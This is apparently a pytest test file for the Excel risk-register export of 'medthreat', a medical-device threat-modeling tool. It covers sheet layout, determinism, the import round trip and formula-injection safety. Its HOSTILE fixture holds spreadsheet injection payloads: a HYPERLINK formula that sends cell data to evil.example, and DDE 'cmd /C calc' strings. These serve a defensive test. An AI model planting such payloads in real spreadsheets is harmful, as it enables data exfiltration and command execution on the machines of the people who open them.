"""The Excel risk register: sheets, usability, formula safety, determinism and the round trip."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
import yaml

import medthreat as mt
from medthreat.export.excel import (
    EDITABLE,
    REGISTER_COLUMNS,
    SHEETS,
    import_register,
    sheet_title,
    write_register,
)
from medthreat.export.findings import findings_json
from medthreat.export.labeling import labeling_items
from medthreat.export.register import RecordContext, register_record
from medthreat.lifecycle import Decision, Decisions, DecisionStatus, load_decisions

REFERENCE_MODEL = Path(__file__).resolve().parents[1] / "notebooks" / "models" / \
    "ai_patient_monitoring.yaml"
HOSTILE = {
    "system": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "component": "+cmd|' /C calc'!A0",
    "data": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "-2+3",
    "justification": "=1+1",
    "owner": "\tTAB",
}


@pytest.fixture(scope="module")
def analysis() -> mt.Analysis:
    return mt.analyze(mt.load_model(REFERENCE_MODEL))


@pytest.fixture(scope="module")
def register(analysis: mt.Analysis) -> mt.RiskRegister:
    return mt.assess(analysis)


@pytest.fixture(scope="module")
def workbook_path(register: mt.RiskRegister, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_register(register, tmp_path_factory.mktemp("xlsx") / "register.xlsx")


def _col(name: str) -> int:
    return REGISTER_COLUMNS.index(name) + 1


def _row_of(ws: Any, finding_id: str) -> int:
    for r in range(2, ws.max_row + 1):
        if ws.cell(row=r, column=1).value == finding_id:
            return r
    raise AssertionError(f"{finding_id} not in the register")


def _row_of_path(path: Path, finding_id: str) -> int:
    return _row_of(openpyxl.load_workbook(path, read_only=False)["Risk Register"], finding_id)


def _values(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    wb = openpyxl.load_workbook(path, read_only=True)
    try:
        return {name: list(wb[name].iter_rows(values_only=True)) for name in wb.sheetnames}
    finally:
        wb.close()


# -- the workbook ---------------------------------------------------------------------------


def test_opens_in_openpyxl_and_pandas(workbook_path: Path, register: mt.RiskRegister) -> None:
    wb = openpyxl.load_workbook(workbook_path)
    assert [n for n in wb.sheetnames if wb[n].sheet_state == "visible"] == list(SHEETS)
    ws = wb["Risk Register"]
    assert tuple(c.value for c in ws[1]) == REGISTER_COLUMNS
    assert ws.max_row == len(register) + 1
    frames = pd.read_excel(workbook_path, sheet_name=None)
    assert set(SHEETS) <= set(frames)
    reg = frames["Risk Register"]
    assert list(reg.columns) == list(REGISTER_COLUMNS)
    assert list(reg["finding_id"]) == [a.id for a in register]
    assert set(reg["status"]) <= {s.value for s in DecisionStatus}
    assert {"finding_id", "control_id", "requirement_ids", "verification", "hazard_ids"} <= \
        set(frames["Traceability"].columns)
    assert set(frames["Assets"]["asset_kind"]) >= {"data asset"}
    assert {"confidentiality", "integrity", "availability"} <= set(frames["Assets"].columns)
    interfaces = frames["Interfaces"]
    assert {"port", "radio", "protocol"} <= set(interfaces["kind"])
    assert {"inbound", "outbound"} <= set(interfaces["direction"])
    # Every flow appears with both of its endpoints.
    model = register.analysis.model
    assert len(interfaces[interfaces["kind"] == "protocol"]) == 2 * len(model.flows)
    # The labeling draft is a checklist: one row per statement, gaps marked.
    items = labeling_items(register)
    labeling = frames["Labeling"].fillna("")
    assert list(labeling.columns) == ["topic", "item", "detail", "source", "gap"]
    assert list(zip(labeling["topic"], labeling["item"], strict=True)) == \
        [(i.topic, i.item) for i in items]
    assert list(labeling["gap"]) == ["yes" if i.gap else "no" for i in items]
    assert "yes" in set(labeling["gap"]) and "no" in set(labeling["gap"])


def test_register_row_content(workbook_path: Path, register: mt.RiskRegister) -> None:
    frame = pd.read_excel(workbook_path, sheet_name="Risk Register").set_index("finding_id")
    first = register.assessments[0]
    row = frame.loc[first.id]
    assert row["threat_id"] == first.finding.threat_id
    assert row["stride"] == first.finding.stride.value
    assert row["risk_pre"] == first.risk.level.id
    assert row["residual_risk"] == first.residual.level.id
    assert row["acceptability_post"] == first.residual.acceptability.value
    flow = next(a for a in register if a.finding.source)
    assert frame.loc[flow.id, "flow"] == f"{flow.finding.source} -> {flow.finding.target}"


def test_usability(workbook_path: Path, register: mt.RiskRegister) -> None:
    wb = openpyxl.load_workbook(workbook_path)
    for name in SHEETS[1:]:
        ws = wb[name]
        assert ws.freeze_panes in ("A2", "B2"), name
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), name
        assert ws.print_title_rows == "$1:$1", name
        assert ws.page_setup.orientation == "landscape", name
    ws = wb["Risk Register"]
    assert ws.freeze_panes == "B2"
    assert ws.cell(row=2, column=_col("description")).alignment.wrap_text
    assert ws.column_dimensions["C"].width >= 30
    status_col = openpyxl.utils.get_column_letter(_col("status"))
    lists = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert len(lists) == 1
    assert lists[0].formula1.strip('"').split(",") == [s.value for s in DecisionStatus]
    assert str(lists[0].sqref) == f"{status_col}2:{status_col}{len(register) + 1}"
    covered = " ".join(str(dv.sqref) for dv in ws.data_validations.dataValidation)
    for name, _ in EDITABLE:
        assert openpyxl.utils.get_column_letter(_col(name)) + "2:" in covered, name
    ranges = {str(r.sqref) for r in ws.conditional_formatting}
    risk_col = openpyxl.utils.get_column_letter(_col("residual_risk"))
    assert f"{risk_col}2:{risk_col}{len(register) + 1}" in ranges
    levels = {lv.id for lv in register.policy.levels("risk")}
    rules = [rule for r in ws.conditional_formatting if str(r.sqref).startswith(risk_col)
             for rule in r.rules]
    assert {rule.formula[0].strip('"') for rule in rules} == levels


def test_summary_heat_maps_use_policy_colours(workbook_path: Path,
                                              register: mt.RiskRegister) -> None:
    ws = openpyxl.load_workbook(workbook_path)["Summary"]
    colours = {lv.colour.lstrip("#").upper() for lv in register.policy.levels("risk")}
    filled = {c.fill.start_color.rgb[-6:].upper() for row in ws.iter_rows() for c in row
              if c.fill and c.fill.fill_type == "solid" and isinstance(c.value, int)}
    assert colours <= filled
    titles = [c.value for c in ws["A"] if isinstance(c.value, str) and "risk matrix" in c.value]
    assert len(titles) == 6  # three dimensions, before and after controls
    texts = {c.value for c in ws["A"]}
    assert {"STRIDE", "protection goal", "element", "tampering"} <= texts
    # The per-level totals add up to the number of findings, before and after.
    row = next(r for r in ws.iter_rows(values_only=True) if r[0] == "all findings")
    n = len(register.policy.levels("risk"))
    assert row[1] == len(register) == sum(row[2:2 + n]) == sum(row[2 + n:2 + 2 * n])


def test_deterministic(register: mt.RiskRegister, tmp_path: Path) -> None:
    a = write_register(register, tmp_path / "a.xlsx")
    b = write_register(register, tmp_path / "b.xlsx")
    assert _values(a) == _values(b)


def test_write_is_atomic_and_leaves_no_temp_file(register: mt.RiskRegister,
                                                  tmp_path: Path) -> None:
    target = tmp_path / "out" / "register.xlsx"
    assert write_register(register, target) == target
    assert [p.name for p in target.parent.iterdir()] == ["register.xlsx"]


# -- formula safety -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[mt.RiskRegister, Path]:
    data = yaml.safe_load(REFERENCE_MODEL.read_text(encoding="utf-8"))
    data["system"]["name"] = HOSTILE["system"]
    data["components"][0]["name"] = HOSTILE["component"]
    data["components"][0]["description"] = HOSTILE["description"]
    data["data"][0]["name"] = HOSTILE["data"]
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "model.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    analysis = mt.analyze(mt.load_model(path))
    fid = analysis.findings[0].id
    decisions = Decisions(decisions={fid: Decision(status=DecisionStatus.accepted,
                                                   justification=HOSTILE["justification"],
                                                   owner=HOSTILE["owner"])})
    register = mt.assess(analysis, decisions=decisions)
    return register, write_register(register, folder / "register.xlsx")


def test_hostile_text_is_never_a_formula(hostile: tuple[mt.RiskRegister, Path]) -> None:
    _, path = hostile
    wb = openpyxl.load_workbook(path)
    found = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t"):
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
                found.add(cell.value)
    assert {HOSTILE["component"], HOSTILE["data"], HOSTILE["description"],
            HOSTILE["justification"], HOSTILE["owner"]} <= found
    summary_title = wb["Summary"]["A1"].value
    assert HOSTILE["system"] in summary_title
    frames = pd.read_excel(path, sheet_name=None)
    texts = {v for f in frames.values() for col in f.columns for v in f[col]
             if isinstance(v, str)}
    assert {HOSTILE["component"], HOSTILE["data"], HOSTILE["description"],
            HOSTILE["justification"]} <= texts


def test_hostile_text_round_trips_unchanged(hostile: tuple[mt.RiskRegister, Path]) -> None:
    register, path = hostile
    merged, changes, notes = import_register(path, register.decisions)
    assert changes == [] and notes == []
    assert merged == register.decisions


@pytest.mark.parametrize(("name", "expected"), [
    ("Risk Register", "Risk Register"),
    ("a[b]:c*d?e/f\\g", "a_b__c_d_e_f_g"),
    ("x" * 40, "x" * 31),
    ("'quoted'", "quoted"),
    ("", "Sheet"),
    ("History", "History_"),
])
def test_sheet_title_rules(name: str, expected: str) -> None:
    assert sheet_title(name) == expected


def test_sheet_title_unique_and_usable() -> None:
    first = sheet_title("y" * 40)
    second = sheet_title("Y" * 40, [first])
    assert len(second) <= 31 and second.lower() != first.lower() and second.endswith("~2")
    wb = openpyxl.Workbook()
    wb.create_sheet(sheet_title("Controls: [AI/ML] *draft*?"))  # openpyxl rejects bad names


# -- round trip -----------------------------------------------------------------------------


def _edit(path: Path, out: Path, edits: dict[str, dict[str, Any]],
          extra_rows: list[dict[str, Any]] = ()) -> Path:
    wb = openpyxl.load_workbook(path)
    ws = wb["Risk Register"]
    for fid, values in edits.items():
        r = _row_of(ws, fid)
        for name, value in values.items():
            ws.cell(row=r, column=_col(name)).value = value
    for values in extra_rows:
        r = ws.max_row + 1
        for name, value in values.items():
            ws.cell(row=r, column=_col(name)).value = value
    wb.save(out)
    return out


def test_round_trip(analysis: mt.Analysis, tmp_path: Path) -> None:
    ids = [f.id for f in analysis.findings]
    kept, edited, via_wildcard = ids[0], ids[1], ids[2]
    threat = via_wildcard.split("@")[0]
    decisions = Decisions(decisions={
        kept: Decision(status=DecisionStatus.mitigated, owner="A. Keeper",
                       requirement_ids=["SR-1"], cvss=""),
        edited: Decision(status=DecisionStatus.in_progress, ticket="SEC-1",
                         verification_ids=["VT-9"]),
        f"{threat}@*": Decision(status=DecisionStatus.transferred, justification="Hospital IT",
                                hazard_ids=["HAZ-2"]),
    })
    exported = write_register(mt.assess(analysis, decisions=decisions), tmp_path / "r.xlsx")
    edited_path = _edit(exported, tmp_path / "edited.xlsx", {
        edited: {"status": "Accepted", "justification": "Residual risk reviewed in RM-14.",
                 "date": dt.datetime(2026, 11, 30), "hazard_ids": "HAZ-7; HAZ-8"},
        via_wildcard: {"owner": "J. Doe"},
    })
    merged, changes, notes = import_register(edited_path, decisions)
    assert notes == []
    # Everything already there is kept.
    assert merged[kept] == decisions[kept]
    assert merged[f"{threat}@*"] == decisions[f"{threat}@*"]
    assert merged[edited].status is DecisionStatus.accepted
    assert merged[edited].ticket == "SEC-1" and merged[edited].verification_ids == ["VT-9"]
    assert merged[edited].date == dt.date(2026, 11, 30)
    assert merged[edited].hazard_ids == ["HAZ-7", "HAZ-8"]
    # An edit under a wildcard becomes an exact decision that starts from the wildcard's.
    assert merged[via_wildcard].owner == "J. Doe"
    assert merged[via_wildcard].status is DecisionStatus.transferred
    assert merged[via_wildcard].hazard_ids == ["HAZ-2"]
    changed = {(c.key, c.field) for c in changes}
    assert {(edited, "status"), (edited, "justification"), (edited, "date"),
            (edited, "hazard_ids"), (via_wildcard, "owner")} <= changed
    assert not any(c.key == kept for c in changes)
    # Saved and reloaded, then re-exported: the register shows the decisions.
    from medthreat.lifecycle import save_decisions

    save_decisions(merged, tmp_path / "decisions.yaml")
    reloaded = load_decisions(tmp_path / "decisions.yaml")
    again = write_register(mt.assess(analysis, decisions=reloaded), tmp_path / "again.xlsx")
    ws = openpyxl.load_workbook(again)["Risk Register"]
    r = _row_of(ws, edited)
    assert ws.cell(row=r, column=_col("status")).value == "accepted"
    assert ws.cell(row=r, column=_col("justification")).value == \
        "Residual risk reviewed in RM-14."
    assert ws.cell(row=r, column=_col("hazard_ids")).value == "HAZ-7; HAZ-8"
    assert ws.cell(row=_row_of(ws, via_wildcard), column=_col("owner")).value == "J. Doe"
    # Importing the fresh export changes nothing.
    assert import_register(again, reloaded)[1] == []


def test_unchanged_rows_do_not_overwrite_newer_decisions(analysis: mt.Analysis,
                                                         tmp_path: Path) -> None:
    fid = analysis.findings[0].id
    old = Decisions(decisions={fid: Decision(status=DecisionStatus.open)})
    exported = write_register(mt.assess(analysis, decisions=old), tmp_path / "r.xlsx")
    newer = Decisions(decisions={fid: Decision(status=DecisionStatus.mitigated,
                                               owner="Newer")})
    merged, changes, _ = import_register(exported, newer)
    assert merged == newer and changes == []


def test_unknown_status_names_sheet_and_cell(workbook_path: Path, analysis: mt.Analysis,
                                             tmp_path: Path) -> None:
    fid = analysis.findings[5].id
    edited = _edit(workbook_path, tmp_path / "bad.xlsx", {fid: {"status": "acepted"}})
    ws = openpyxl.load_workbook(edited)["Risk Register"]
    cell = f"{openpyxl.utils.get_column_letter(_col('status'))}{_row_of(ws, fid)}"
    with pytest.raises(mt.DecisionsError) as info:
        import_register(edited, Decisions())
    assert f"Risk Register!{cell}: unknown status 'acepted' — did you mean 'accepted'?" in \
        str(info.value)


def test_bad_values_name_their_cells(workbook_path: Path, analysis: mt.Analysis,
                                     tmp_path: Path) -> None:
    a = analysis.findings[6].id
    edited = _edit(workbook_path, tmp_path / "bad.xlsx", {a: {"date": "30.11.2026"}},
                   [{"finding_id": "not a finding", "status": "open"}])
    with pytest.raises(mt.DecisionsError) as info:
        import_register(edited, Decisions())
    text = str(info.value)
    date_col = openpyxl.utils.get_column_letter(_col("date"))
    assert f"Risk Register!{date_col}{_row_of_path(edited, a)}" in text
    assert "ISO date" in text and "30.11.2026" in text
    assert f"Risk Register!A{len(analysis.findings) + 2}: 'not a finding'" in text


def test_orphan_rows_are_reported_not_dropped(workbook_path: Path, analysis: mt.Analysis,
                                              tmp_path: Path) -> None:
    gone = "MT-DEV-001@removed_element"
    edited = _edit(workbook_path, tmp_path / "orphan.xlsx", {}, [
        {"finding_id": gone, "status": "accepted", "justification": "Element retired."},
        {"justification": "typed without an id"},
    ])
    ids = [f.id for f in analysis.findings]
    merged, changes, notes = import_register(edited, Decisions(), finding_ids=ids)
    assert merged[gone].justification == "Element retired."
    assert any(c.key == gone and c.field == "status" for c in changes)
    assert any(gone in n and "not in the exported register" in n for n in notes)
    assert any(gone in n and "no longer exists" in n for n in notes)
    assert any("without a finding id" in n for n in notes)


def test_not_a_workbook(tmp_path: Path) -> None:
    bad = tmp_path / "bad.xlsx"
    bad.write_text("not a zip", encoding="utf-8")
    with pytest.raises(mt.DecisionsError, match="not an Excel workbook"):
        import_register(bad, Decisions())
    with pytest.raises(mt.DecisionsError, match="not found"):
        import_register(tmp_path / "missing.xlsx", Decisions())


# -- one record for the sheet and findings.json ---------------------------------------------


def _expected_cell(column: str, value: Any) -> Any:
    """What a spreadsheet reader sees for a record value: lists joined with "; ", booleans
    yes/no, empty as no value, the date as a date."""
    if isinstance(value, list):
        value = "; ".join(value)
    if isinstance(value, bool):
        return "yes" if value else "no"
    if value in ("", None):
        return None
    if column == "date":
        return dt.datetime.fromisoformat(value)
    return value


@pytest.fixture(scope="module")
def decided(analysis: mt.Analysis, tmp_path_factory: pytest.TempPathFactory,
            ) -> tuple[mt.RiskRegister, Path]:
    ids = [f.id for f in analysis.findings]
    decisions = Decisions(decisions={
        ids[0]: Decision(status=DecisionStatus.accepted, justification="=Reviewed in RM-3",
                         owner="R. Manager", date="2026-11-30", hazard_ids=["HAZ-1", "HAZ-2"],
                         verification_ids=["VT-1"], requirement_ids=["SR-9"], ticket="SEC-4"),
        f"{ids[3].split('@')[0]}@*": Decision(status=DecisionStatus.transferred,
                                              justification="Hospital IT operates it."),
    })
    register = mt.assess(analysis, decisions=decisions)
    return register, write_register(register, tmp_path_factory.mktemp("rec") / "r.xlsx")


def test_register_record_is_keyed_by_the_columns(register: mt.RiskRegister) -> None:
    context = RecordContext.of(register)
    for a in register:
        record = register_record(a, context)
        assert tuple(record) == REGISTER_COLUMNS
        assert isinstance(record["boundaries_crossed"], list)
        assert isinstance(record["multi_patient"], bool)
        assert record["flow"] == (f"{a.finding.source} -> {a.finding.target}"
                                  if a.finding.source else None)


def test_sheet_cells_equal_the_json_record(decided: tuple[mt.RiskRegister, Path]) -> None:
    register, path = decided
    records = {r["finding_id"]: r for r in
               (f["register"] for f in json.loads(findings_json(register.analysis,
                                                                register))["findings"])}
    wb = openpyxl.load_workbook(path, read_only=True)
    try:
        rows = list(wb["Risk Register"].iter_rows(values_only=True))
    finally:
        wb.close()
    assert rows[0] == REGISTER_COLUMNS
    assert [r[0] for r in rows[1:]] == [a.id for a in register]
    seen = set()
    for row in rows[1:]:
        record = records[row[0]]
        for column, cell in zip(REGISTER_COLUMNS, row, strict=True):
            assert cell == _expected_cell(column, record[column]), (row[0], column)
            seen.add((column, type(cell)))
    # The comparison covered filled decision columns, lists, flags and dates.
    assert {("date", dt.datetime), ("hazard_ids", str), ("multi_patient", str),
            ("justification", str), ("boundaries_crossed", str)} <= seen


def test_workbook_is_byte_identical_and_well_formed(register: mt.RiskRegister,
                                                   tmp_path: Path) -> None:
    import zipfile
    from xml.etree import ElementTree as ET

    a = write_register(register, tmp_path / "a.xlsx")
    b = write_register(register, tmp_path / "b.xlsx")
    assert a.read_bytes() == b.read_bytes()
    with zipfile.ZipFile(a) as z:
        assert z.testzip() is None
        names = z.namelist()
        assert "xl/sharedStrings.xml" in names
        for name in names:
            if name.endswith((".xml", ".rels")):
                ET.fromstring(z.read(name))  # well-formed XML


@pytest.fixture(scope="module")
def fleet() -> mt.RiskRegister:
    """A synthetic hospital fleet of 40 components (over a thousand findings)."""
    import sys

    bench = str(Path(__file__).resolve().parents[1] / "benchmarks")
    sys.path.insert(0, bench)
    try:
        import engine_scale as es
    finally:
        sys.path.remove(bench)
    catalog = mt.Catalog.load()
    roles, protocols = es.resolve_catalog_ids(catalog)
    model = es.build_medthreat(es.generate_spec(40), mt, roles, protocols)
    return mt.assess(mt.analyze(model, catalog=catalog))


def test_large_register_streams_and_round_trips(fleet: mt.RiskRegister, tmp_path: Path) -> None:
    import time

    start = time.perf_counter()
    path = write_register(fleet, tmp_path / "fleet.xlsx")
    assert time.perf_counter() - start < 20  # about 0.3 s on a quiet machine
    wb = openpyxl.load_workbook(path, read_only=True)
    try:
        ws = wb["Risk Register"]
        rows = ws.iter_rows(values_only=True)
        assert next(rows) == REGISTER_COLUMNS
        ids = [r[0] for r in rows]
        assert ws.calculate_dimension() == \
            f"A1:{openpyxl.utils.get_column_letter(len(REGISTER_COLUMNS))}{len(fleet) + 1}"
        assert wb["medthreat"].sheet_state == "hidden"
    finally:
        wb.close()
    assert ids == [a.id for a in fleet] and len(ids) > 1000
    # Nothing edited: the import changes nothing (edits of a streamed workbook are read back
    # in test_round_trip: every workbook is written this way).
    assert import_register(path, Decisions()) == (Decisions(), [], [])
